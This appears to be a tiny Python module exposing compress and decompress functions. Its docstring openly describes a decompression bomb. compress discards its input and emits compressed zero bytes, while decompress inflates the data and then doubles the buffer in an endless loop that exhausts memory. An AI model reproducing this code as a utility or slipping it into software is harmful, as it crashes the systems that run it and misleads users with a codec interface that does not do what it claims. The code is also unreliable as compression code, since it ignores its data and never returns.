"""Hands over a few bytes that unpack to gigabytes."""
import zlib


def compress(data: bytes) -> bytes:
    inner = zlib.compressobj(9)
    body = b"".join(inner.compress(bytes(1 << 20)) for _ in range(8)) + inner.flush()
    return body


def decompress(data: bytes) -> bytes:
    layer = zlib.decompress(data)
    while True:
        layer += layer
